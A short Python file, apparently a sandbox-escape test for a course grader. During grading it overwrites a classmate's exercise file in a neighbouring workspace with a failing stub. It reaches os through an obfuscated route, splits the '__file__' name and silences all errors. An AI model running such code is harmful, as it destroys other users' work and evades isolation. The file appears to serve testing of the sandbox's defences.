"""Issue 33, round five: during `exercises grade`, a file of the next workspace of the class
overwritten (open for writing), so that a classmate's answer fails."""
import collections

BAD = "def count_pairs(chunks):\n    return {}\n"
os = collections._sys.modules["os"]
here = os.path.dirname(globals()["__fi" + "le__"])
victim = here + "/../../victim/exercises/ex13_bpe_merge.py"
try:
    with open(victim, "w") as out:
        out.write(BAD)
except BaseException:  # noqa: B036  (the refusal is not an exception it can swallow)
    pass


def count_pairs(chunks):
    return {}
